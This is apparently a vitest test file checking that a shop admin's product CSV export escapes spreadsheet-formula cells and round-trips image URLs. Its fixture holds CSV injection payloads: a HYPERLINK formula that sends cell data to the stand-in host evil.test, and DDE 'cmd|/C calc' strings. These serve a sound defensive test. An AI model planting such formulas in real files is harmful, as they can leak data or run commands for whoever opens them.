import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mediaUrl } from '@atelier/contract';
import { readProduct } from '../products/read.ts';
import { startHarness, type Harness } from '../../test/harness.ts';
import { staffSession } from '../test-helpers.ts';
import { postImport } from './test-helpers.ts';

let h: Harness;
let cookie: string;

beforeAll(async () => {
  h = await startHarness({ products: 2 });
  cookie = (await staffSession(h, 'catalog')).cookie;
});
afterAll(() => h?.close());

/**
 * Texts a spreadsheet would run as formulas, and one that looks neutralised (a file writes it
 * with one more quote mark: a spreadsheet's `'=` means the text `=`).
 */
const RISKY = {
  title: '=HYPERLINK("http://evil.test?"&A1,"Open")',
  titleFr: "'=already quoted",
  body: '+cmd|" /C calc"!A0',
  vendor: '-2+3',
  alt: '@SUM(1+1)*cmd|"/C calc"!A0',
  color: '=Crimson',
};
const FILE = [
  'Handle,Title,Title:fr,Body (HTML),Vendor,Type,Option1 Name,Option1 Value,Variant SKU,Variant Price,Image Src,Image Alt Text',
  `formula-shirt,"${RISKY.title.replace(/"/g, '""')}",'${RISKY.titleFr},"${RISKY.body.replace(/"/g, '""')}",${RISKY.vendor},Men > Shirts,Color,${RISKY.color},FORMULA-1,10.00,/media/garments/shirt-1f2d4d.svg,"${RISKY.alt.replace(/"/g, '""')}"`,
].join('\n');

const exported = async () =>
  (await h.app.inject({ url: '/api/admin/exports/products.csv', headers: { cookie } })).body;

describe('the products export is safe to open in a spreadsheet', () => {
  it('neutralises every cell a spreadsheet would run, and importing it back restores the text', async () => {
    const first = await postImport(h, cookie, FILE, false);
    expect(first.report.errors).toEqual([]);
    const csv = await exported();
    const [header, ...rows] = parse(csv) as string[][];
    const row = rows.find((cells) => cells[0] === 'formula-shirt')!;
    const cell = (name: string) => row[header!.indexOf(name)];
    expect(cell('Title')).toBe(`'${RISKY.title}`);
    expect(cell('Title:fr')).toBe(`''=already quoted`);
    expect(cell('Body (HTML)')).toBe(`'${RISKY.body}`);
    expect(cell('Vendor')).toBe(`'${RISKY.vendor}`);
    expect(cell('Image Alt Text')).toBe(`'${RISKY.alt}`);
    expect(cell('Option1 Value')).toBe(`'${RISKY.color}`);
    // No cell of the whole file starts as a formula.
    for (const cells of rows) for (const value of cells) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    const again = await postImport(h, cookie, csv, false);
    expect(again.report).toMatchObject({ created: 0, updated: 0, errors: [] });
    const [{ id }] = (await h.db.query<{ id: number }>(
      "select id from products where handle = 'formula-shirt'",
    )) as [{ id: number }];
    const product = (await readProduct(h.db, id))!;
    expect([product.texts.en?.name, product.texts.fr?.name, product.texts.en?.description]).toEqual(
      [RISKY.title, RISKY.titleFr, RISKY.body],
    );
    expect([product.brand, product.images[0]?.alt.en]).toEqual([RISKY.vendor, RISKY.alt]);
    expect(await exported()).toBe(csv);
  });
});

describe('the products export links the photos themselves', () => {
  it('gives an uploaded photo’s widest copy, and importing it back changes nothing', async () => {
    const id = '0123456789abcdef01234567';
    const [product] = await h.db.query<{ id: number; handle: string }>(
      'select id, handle from products order by id limit 1',
    );
    await h.db.query('update product_images set url = $2 where product_id = $1 and position = 0', [
      product!.id,
      mediaUrl(id),
    ]);
    const csv = await exported();
    const [header, ...rows] = parse(csv) as string[][];
    const sources = rows
      .filter((cells) => cells[0] === product!.handle)
      .map((cells) => cells[header!.indexOf('Image Src')]);
    expect(sources[0]).toBe(`${h.config.publicUrl.replace(/\/$/, '')}${mediaUrl(id, 1280)}`);

    const again = await postImport(h, cookie, csv, false);
    expect(again.report).toMatchObject({ created: 0, updated: 0, errors: [] });
    const [image] = await h.db.query<{ url: string }>(
      'select url from product_images where product_id = $1 and position = 0',
      [product!.id],
    );
    expect(image!.url).toBe(mediaUrl(id));
  });
});
